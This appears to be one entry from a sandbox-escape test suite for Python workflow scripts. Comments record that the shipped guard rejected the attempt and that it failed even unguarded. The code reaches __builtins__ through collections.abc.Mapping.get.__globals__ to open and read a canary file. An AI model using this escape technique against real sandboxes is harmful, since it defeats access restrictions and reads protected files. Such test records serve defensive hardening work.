# Technique   the abstract classes below collections
# Mechanism   collections.abc.Mapping has methods written in Python
# As shipped  rejected: attribute, underscore
# Unguarded   failed: AttributeError: 'collections.abc' is not available in workflow scripts

read = collections.abc.Mapping.get.__globals__["__builtins__"]
return read["open"](CANARY_FILE).read()
